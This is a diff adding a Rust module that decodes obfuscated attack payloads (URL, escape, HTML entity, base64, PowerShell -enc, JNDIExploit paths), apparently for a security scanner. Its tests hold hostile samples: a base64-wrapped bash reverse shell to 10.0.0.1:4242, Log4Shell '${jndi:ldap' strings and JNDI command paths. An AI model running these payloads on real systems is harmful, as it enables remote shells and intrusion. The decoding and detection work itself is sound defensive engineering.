@@ -1,0 +1,423 @@
+//! Undoing the encodings attackers wrap payloads in: URL encoding (repeated), `\uXXXX` /
+//! `\xHH` / octal escapes, HTML entities, base64 command blobs (`echo X | base64 -d`,
+//! `{echo,X}|{base64,-d}`) and JNDIExploit `Base64/<b64>` paths. Every function is total:
+//! malformed input is left as it is, output length is bounded by the input length.
+
+use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
+use base64::Engine as _;
+
+/// How many rounds of URL decoding are applied at most (`%2524` is two rounds).
+const URL_ROUNDS: usize = 4;
+
+/// Percent-decode once. `plus` turns `+` into a space (form encoding). Invalid escapes
+/// (`%%1938`, `%zz`) stay as they are.
+pub fn url_decode_once(input: &[u8], plus: bool) -> Vec<u8> {
+    if !plus && memchr::memchr(b'%', input).is_none() {
+        return input.to_vec();
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while i < input.len() {
+        let b = input[i];
+        if b == b'%' && i + 2 < input.len() {
+            if let (Some(h), Some(l)) = (hex_val(input[i + 1]), hex_val(input[i + 2])) {
+                // Control characters (`%%1938` in Windows event text) are left encoded: no
+                // payload needs them and decoding them only makes noise.
+                let v = h << 4 | l;
+                if v >= 0x20 || matches!(v, b'\t' | b'\n' | b'\r' | 0) {
+                    out.push(v);
+                    i += 3;
+                    continue;
+                }
+            }
+        }
+        // `%uXXXX` (IIS / old JavaScript escape()).
+        if b == b'%' && matches!(input.get(i + 1), Some(b'u' | b'U')) {
+            if let Some(c) = input.get(i + 2..i + 6).and_then(hex4) {
+                push_char(&mut out, c);
+                i += 6;
+                continue;
+            }
+        }
+        out.push(if plus && b == b'+' { b' ' } else { b });
+        i += 1;
+    }
+    out
+}
+
+/// Percent-decode until nothing changes (at most [`URL_ROUNDS`] rounds).
+pub fn url_decode_repeated(input: &[u8], plus: bool) -> Vec<u8> {
+    let mut cur = input.to_vec();
+    for round in 0..URL_ROUNDS {
+        if memchr::memchr(b'%', &cur).is_none() && !(plus && round == 0) {
+            break;
+        }
+        let next = url_decode_once(&cur, plus && round == 0);
+        if next == cur {
+            break;
+        }
+        cur = next;
+    }
+    cur
+}
+
+/// Undo backslash escapes as Java, JavaScript, Go JSON and Apache write them: `\uXXXX`
+/// (surrogate pairs joined), `\u{X}`, `\xHH`, octal `\NNN`, `\\`, `\"`, `\/`, `\n`, `\t`,
+/// `\r`. Unknown escapes stay as they are.
+pub fn unescape(input: &[u8]) -> Vec<u8> {
+    if memchr::memchr(b'\\', input).is_none() {
+        return input.to_vec();
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while i < input.len() {
+        if input[i] != b'\\' || i + 1 >= input.len() {
+            out.push(input[i]);
+            i += 1;
+            continue;
+        }
+        let next = input[i + 1];
+        match next {
+            b'u' | b'U' => {
+                if input.get(i + 2) == Some(&b'{') {
+                    if let Some(end) = input[i + 3..].iter().take(7).position(|&c| c == b'}') {
+                        let hex = &input[i + 3..i + 3 + end];
+                        if let Some(c) = parse_hex(hex).and_then(char::from_u32) {
+                            push_char(&mut out, c as u32);
+                            i += 4 + end;
+                            continue;
+                        }
+                    }
+                } else if let Some(hi) = input.get(i + 2..i + 6).and_then(hex4) {
+                    // A surrogate pair `\uD83D\uDE00` becomes one code point.
+                    if (0xd800..0xdc00).contains(&hi) && input.get(i + 6) == Some(&b'\\') {
+                        if let Some(lo) = input.get(i + 8..i + 12).and_then(hex4) {
+                            if (0xdc00..0xe000).contains(&lo) {
+                                push_char(&mut out, 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00));
+                                i += 12;
+                                continue;
+                            }
+                        }
+                    }
+                    push_char(&mut out, hi);
+                    i += 6;
+                    continue;
+                }
+            }
+            b'x' | b'X' => {
+                if let (Some(h), Some(l)) =
+                    (input.get(i + 2).and_then(|&c| hex_val(c)), input.get(i + 3).and_then(|&c| hex_val(c)))
+                {
+                    out.push(h << 4 | l);
+                    i += 4;
+                    continue;
+                }
+            }
+            b'0'..=b'7' => {
+                let digits: Vec<u8> = input[i + 1..]
+                    .iter()
+                    .take(3)
+                    .take_while(|c| (b'0'..=b'7').contains(c))
+                    .copied()
+                    .collect();
+                let v = digits.iter().fold(0u32, |a, &d| a * 8 + u32::from(d - b'0'));
+                if digits.len() >= 2 && v <= 0xff {
+                    out.push(v as u8);
+                    i += 1 + digits.len();
+                    continue;
+                }
+            }
+            b'\\' | b'"' | b'\'' | b'/' => {
+                out.push(next);
+                i += 2;
+                continue;
+            }
+            b'n' => {
+                out.push(b'\n');
+                i += 2;
+                continue;
+            }
+            b't' => {
+                out.push(b'\t');
+                i += 2;
+                continue;
+            }
+            b'r' => {
+                out.push(b'\r');
+                i += 2;
+                continue;
+            }
+            _ => {}
+        }
+        out.push(b'\\');
+        i += 1;
+    }
+    out
+}
+
+/// Decode the HTML / XML entities payloads arrive in (`&gt;`, `&amp;`, `&#36;`, `&#x7b;`).
+pub fn html_unescape(input: &[u8]) -> Vec<u8> {
+    if memchr::memchr(b'&', input).is_none() {
+        return input.to_vec();
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while i < input.len() {
+        if input[i] == b'&' {
+            let rest = &input[i + 1..];
+            if let Some(semi) = rest.iter().take(10).position(|&c| c == b';') {
+                let name = &rest[..semi];
+                let ch: Option<u32> = match name {
+                    b"lt" => Some('<' as u32),
+                    b"gt" => Some('>' as u32),
+                    b"amp" => Some('&' as u32),
+                    b"quot" => Some('"' as u32),
+                    b"apos" => Some('\'' as u32),
+                    b"dollar" => Some('$' as u32),
+                    b"lbrace" | b"lcub" => Some('{' as u32),
+                    b"rbrace" | b"rcub" => Some('}' as u32),
+                    _ if name.first() == Some(&b'#') => {
+                        let n = &name[1..];
+                        if let Some(h) = n.strip_prefix(b"x").or_else(|| n.strip_prefix(b"X")) {
+                            parse_hex(h)
+                        } else {
+                            std::str::from_utf8(n).ok().and_then(|s| s.parse().ok())
+                        }
+                    }
+                    _ => None,
+                };
+                if let Some(c) = ch.filter(|&c| char::from_u32(c).is_some()) {
+                    push_char(&mut out, c);
+                    i += semi + 2;
+                    continue;
+                }
+            }
+        }
+        out.push(input[i]);
+        i += 1;
+    }
+    out
+}
+
+/// Every decoding at once, repeated until stable (at most 4 rounds): URL, escapes, HTML
+/// entities. `plus` also turns `+` into spaces (query strings).
+pub fn normalize(input: &[u8], plus: bool) -> Vec<u8> {
+    let mut cur = input.to_vec();
+    for _ in 0..4 {
+        let next = html_unescape(&unescape(&url_decode_repeated(&cur, plus)));
+        let again = next != cur && may_be_encoded(&next);
+        cur = next;
+        if !again {
+            break;
+        }
+    }
+    cur
+}
+
+/// True when `normalize` could change `input` (it holds `%`, `\`, `&` or `+`).
+pub fn may_be_encoded(input: &[u8]) -> bool {
+    memchr::memchr3(b'%', b'\\', b'&', input).is_some()
+}
+
+/// Decode base64 in any of its alphabets, padded or not. None unless it decodes to mostly
+/// printable text (so random words are not taken for base64).
+pub fn base64_text(b64: &[u8]) -> Option<String> {
+    let trimmed: Vec<u8> = b64.iter().copied().filter(|c| !c.is_ascii_whitespace()).collect();
+    if trimmed.len() < 4 {
+        return None;
+    }
+    let bytes = [STANDARD, URL_SAFE, STANDARD_NO_PAD, URL_SAFE_NO_PAD]
+        .iter()
+        .find_map(|e| e.decode(&trimmed).ok())
+        .or_else(|| {
+            // Tolerate a truncated tail (logs cut long lines): decode the longest valid prefix.
+            let cut = trimmed.len() - trimmed.len() % 4;
+            STANDARD_NO_PAD
+                .decode(trimmed[..cut].iter().filter(|&&c| c != b'=').copied().collect::<Vec<_>>())
+                .ok()
+        })?;
+    let text = String::from_utf8_lossy(&bytes).into_owned();
+    let printable =
+        text.chars().filter(|&c| (!c.is_control() || c.is_whitespace()) && c != '\u{fffd}').count();
+    (printable * 10 >= text.chars().count() * 9 && !text.trim().is_empty()).then_some(text)
+}
+
+/// The base64 blobs a command line pipes into a decoder and then into a shell:
+/// `echo X | base64 -d | bash`, `{echo,X}|{base64,-d}|{bash,-i}`, `base64 --decode <<< X`,
+/// `printf X | base64 -d`, PowerShell `-enc X` (UTF-16LE). Returns the decoded commands.
+pub fn shell_base64_payloads(text: &[u8]) -> Vec<String> {
+    let s = String::from_utf8_lossy(text);
+    let mut out = Vec::new();
+    for cap in SHELL_B64.captures_iter(&s) {
+        if let Some(m) = cap.name("b64").or_else(|| cap.name("b64b")).or_else(|| cap.name("b64c")) {
+            if let Some(t) = base64_text(m.as_str().as_bytes()) {
+                out.push(t.trim_end().to_string());
+            }
+        }
+        if let Some(m) = cap.name("ps") {
+            if let Some(t) = powershell_enc(m.as_str()) {
+                out.push(t);
+            }
+        }
+    }
+    out
+}
+
+fn powershell_enc(b64: &str) -> Option<String> {
+    let bytes = STANDARD.decode(b64.trim()).ok()?;
+    if bytes.len() % 2 != 0 {
+        return None;
+    }
+    let units: Vec<u16> = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+    let s = String::from_utf16(&units).ok()?;
+    (!s.trim().is_empty() && s.chars().all(|c| !c.is_control() || c.is_whitespace())).then_some(s)
+}
+
+static SHELL_B64: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(concat!(
+        r"(?i)(?:echo|printf)[\s,{]+(?:-[a-z]+\s+)?['\x22]?(?P<b64>[A-Za-z0-9+/_-]{8,}={0,2})['\x22]?\s*\}?\s*\|\s*\{?\s*base64[\s,]+(?:-d|--decode|-D)",
+        r"|base64[\s,]+(?:-d|--decode|-D)\s*<<<\s*['\x22]?(?P<b64b>[A-Za-z0-9+/_-]{8,}={0,2})",
+        r"|(?:frombase64string|b64decode|base64_decode|atob|decodebase64)\s*\(\s*['\x22](?P<b64c>[A-Za-z0-9+/_-]{8,}={0,2})['\x22]",
+        r"|-e(?:nc(?:odedcommand)?|c)?\s+(?P<ps>[A-Za-z0-9+/]{16,}={0,2})(?:\s|$|['\x22])"
+    ))
+    .expect("valid built-in regex")
+});
+
+/// The command encoded in a JNDIExploit / JNDI-Injection-Exploit style LDAP path:
+/// `/Basic/Command/Base64/<b64>`, `/TomcatBypass/Command/Base64/<b64>` (base64 may be
+/// URL-safe, padded or not, `//` doubled). Also `/Command/<plain command>` (URL-encoded).
+pub fn jndiexploit_command(path: &str) -> Option<String> {
+    let lower = path.to_ascii_lowercase();
+    if let Some(pos) = lower.find("/base64/") {
+        let rest = path[pos + 8..].trim_start_matches('/');
+        let b64: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '%'))
+            .collect();
+        let b64 = String::from_utf8_lossy(&url_decode_repeated(b64.as_bytes(), false)).into_owned();
+        return base64_text(b64.trim_end_matches('/').as_bytes());
+    }
+    if let Some(pos) = lower.find("/command/") {
+        let rest = &path[pos + 9..];
+        if !rest.is_empty() {
+            return Some(String::from_utf8_lossy(&url_decode_repeated(rest.as_bytes(), false)).into_owned());
+        }
+    }
+    None
+}
+
+fn hex_val(c: u8) -> Option<u8> {
+    match c {
+        b'0'..=b'9' => Some(c - b'0'),
+        b'a'..=b'f' => Some(c - b'a' + 10),
+        b'A'..=b'F' => Some(c - b'A' + 10),
+        _ => None,
+    }
+}
+
+fn hex4(h: &[u8]) -> Option<u32> {
+    (h.len() == 4).then(|| parse_hex(h)).flatten()
+}
+
+fn parse_hex(h: &[u8]) -> Option<u32> {
+    if h.is_empty() || h.len() > 8 {
+        return None;
+    }
+    h.iter().try_fold(0u32, |a, &c| Some(a * 16 + u32::from(hex_val(c)?)))
+}
+
+/// Push a code point as UTF-8; lone surrogates and invalid values become U+FFFD.
+fn push_char(out: &mut Vec<u8>, c: u32) {
+    let ch = char::from_u32(c).unwrap_or('\u{fffd}');
+    let mut buf = [0u8; 4];
+    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn s(v: Vec<u8>) -> String {
+        String::from_utf8(v).unwrap()
+    }
+
+    #[test]
+    fn url_decoding_repeats_and_leaves_invalid_escapes() {
+        assert_eq!(s(url_decode_repeated(b"%2524%25257Bjndi%253Aldap", false)), "${jndi:ldap");
+        assert_eq!(s(url_decode_repeated(b"$%7Bjndi:x%7D", false)), "${jndi:x}");
+        assert_eq!(s(url_decode_repeated(b"TYPE: %%1938 100%", false)), "TYPE: %%1938 100%");
+        assert_eq!(s(url_decode_repeated(b"%zz%4", false)), "%zz%4");
+        assert_eq!(s(url_decode_repeated(b"a+b%2Bc", true)), "a b+c");
+        assert_eq!(s(url_decode_repeated(b"%u0024%u007B", false)), "${");
+    }
+
+    #[test]
+    fn escapes_of_every_kind() {
+        assert_eq!(s(unescape(br"\u0024\u007bjndi")), "${jndi");
+        assert_eq!(s(unescape(br"bash -i \u003e\u0026 /dev/tcp")), "bash -i >& /dev/tcp");
+        assert_eq!(s(unescape(br"\x24\x7B \44\173")), "${ ${");
+        assert_eq!(s(unescape(br"\ud83d\ude00 \u{1F600}")), "\u{1F600} \u{1F600}");
+        assert_eq!(s(unescape(br#"a\"b\\c\/d"#)), r#"a"b\c/d"#);
+        assert_eq!(s(unescape(br"\q \u12 \x4 end\")), r"\q \u12 \x4 end\");
+        assert_eq!(s(unescape(br"\ud800x")), "\u{fffd}x");
+    }
+
+    #[test]
+    fn html_entities() {
+        assert_eq!(
+            s(html_unescape(b"bash -i &gt;&amp; /dev/tcp &#36;&#x7b; &bogus; &")),
+            "bash -i >& /dev/tcp ${ &bogus; &"
+        );
+    }
+
+    #[test]
+    fn normalize_peels_layers() {
+        assert_eq!(s(normalize(b"%255Cu0024%257B", false)), "${");
+        // JSON inside JSON: escaped twice.
+        assert_eq!(s(normalize(br"\\u0024{", false)), "${");
+    }
+
+    #[test]
+    fn base64_command_forms() {
+        let b = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=";
+        for line in [
+            format!("bash -c {{echo,{b}}}|{{base64,-d}}|{{bash,-i}}"),
+            format!("echo {b} | base64 -d | bash"),
+            format!("echo '{b}' | base64 --decode | sh"),
+            format!("bash -c 'base64 -d <<< {b} | bash'"),
+        ] {
+            assert_eq!(
+                shell_base64_payloads(line.as_bytes()),
+                vec!["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
+                "{line}"
+            );
+        }
+        // PowerShell -enc is UTF-16LE.
+        let ps = STANDARD.encode("whoami".encode_utf16().flat_map(|u| u.to_le_bytes()).collect::<Vec<u8>>());
+        assert_eq!(shell_base64_payloads(format!("powershell -enc {ps}").as_bytes()), vec!["whoami"]);
+        assert!(shell_base64_payloads(b"echo hello | base64 -d").is_empty());
+        assert_eq!(base64_text(b"!!!!"), None);
+        assert_eq!(base64_text(&[0xff, 0xfe]), None);
+    }
+
+    #[test]
+    fn jndiexploit_paths() {
+        let b = "dG91Y2ggL3RtcC9wd25lZA==";
+        assert_eq!(
+            jndiexploit_command(&format!("/Basic/Command/Base64/{b}")).as_deref(),
+            Some("touch /tmp/pwned")
+        );
+        assert_eq!(
+            jndiexploit_command(&format!("/TomcatBypass/Command/Base64//{}", b.trim_end_matches('=')))
+                .as_deref(),
+            Some("touch /tmp/pwned")
+        );
+        assert_eq!(
+            jndiexploit_command("/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA%3D%3D").as_deref(),
+            Some("touch /tmp/pwned")
+        );
+        assert_eq!(jndiexploit_command("/Basic/Command/whoami").as_deref(), Some("whoami"));
+        assert_eq!(jndiexploit_command("/Basic/Command/Base64/XXXX"), None);
+        assert_eq!(jndiexploit_command("/a"), None);
+    }
+}
